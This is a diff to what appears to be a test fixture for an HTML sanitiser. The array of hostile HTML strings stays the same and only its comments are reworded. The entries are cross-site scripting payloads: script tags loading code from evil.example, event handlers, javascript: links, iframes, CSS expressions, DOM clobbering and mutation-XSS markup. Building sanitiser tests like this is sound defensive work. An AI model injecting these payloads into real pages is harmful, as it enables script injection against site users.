@@ -1,9 +1,6 @@
-/**
- * Rich texts that would act, hide, or look like something else, were they put into a page as they are.
- * Each holds the word «Hello», which is all that a reader may get of it, or nothing.
- */
+/** Hostile rich texts. Only the word "Hello", or nothing, may be left of each. */
 export const HOSTILE_HTML: readonly string[] = [
-  // Scripts, in all their spellings.
+  // Scripts.
   'Hello<script>alert(1)</script>',
   'Hello<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
   'Hello<script/src=//evil.example></script>',
@@ -25,7 +22,7 @@ export const HOSTILE_HTML: readonly string[] = [
   '<h2>Hello<script>alert(1)</script></h2>',
   '<table><script>alert(1)</script><tr><td>Hello</td></tr></table>',
 
-  // Handlers of events, on what may stay and on what may not.
+  // Event handlers on allowed and forbidden elements.
   '<p onclick="alert(1)">Hello</p>',
   '<p ONCLICK=alert(1)>Hello</p>',
   '<p onclick\n=\nalert(1)>Hello</p>',
@@ -66,7 +63,7 @@ export const HOSTILE_HTML: readonly string[] = [
   'Hello<keygen autofocus onfocus=alert(1)>',
   'Hello<isindex type=image src=1 onerror=alert(1)>',
 
-  // Addresses that run.
+  // Addresses that run scripts.
   '<a href="javascript:alert(1)">Hello</a>',
   '<a href="JaVaScRiPt:alert(1)">Hello</a>',
   '<a href=" javascript:alert(1)">Hello</a>',
@@ -100,7 +97,7 @@ export const HOSTILE_HTML: readonly string[] = [
   '<a href="/" target="_self" download="x.exe">Hello</a>',
   '<a href="/" attributionsrc="//evil.example">Hello</a>',
 
-  // What embeds, leads away or takes over the page.
+  // Embedding, redirects and forms.
   'Hello<iframe src="//evil.example"></iframe>',
   'Hello<iframe srcdoc="<script>alert(1)</script>"></iframe>',
   'Hello<iframe src="javascript:alert(1)">',
@@ -125,7 +122,7 @@ export const HOSTILE_HTML: readonly string[] = [
   '<table background="//evil.example/x"><tr><td>Hello</td></tr></table>',
   'Hello<canvas id=c></canvas><slot></slot>',
 
-  // Looks that hide or pretend.
+  // Styles that hide or cover content.
   '<p style="position:fixed;inset:0;background:white">Hello</p>',
   '<p style="background:url(javascript:alert(1))">Hello</p>',
   '<p style="width:expression(alert(1))">Hello</p>',
@@ -141,7 +138,7 @@ export const HOSTILE_HTML: readonly string[] = [
   '<p is="x-y" part="z" slot="s" nonce="n">Hello</p>',
   '<marquee>Hello</marquee><blink>Hello</blink>',
 
-  // Names that take the place of our own.
+  // DOM clobbering.
   '<p id="root">Hello</p>',
   '<p id="release" name="release">Hello</p>',
   '<a id="defaultView" name="cookie" href="/">Hello</a>',
@@ -150,7 +147,7 @@ export const HOSTILE_HTML: readonly string[] = [
   'Hello<form id="test"><input name="parentNode"><input name="nodeName"></form>',
   '<h2 id="terms-1">Hello</h2>',
 
-  // Markup that is read differently the second time.
+  // Mutation XSS: markup that parses differently the second time.
   'Hello<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
   'Hello<math><mtext><style><img src onerror=alert(1)></style></mtext></math>',
   'Hello<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
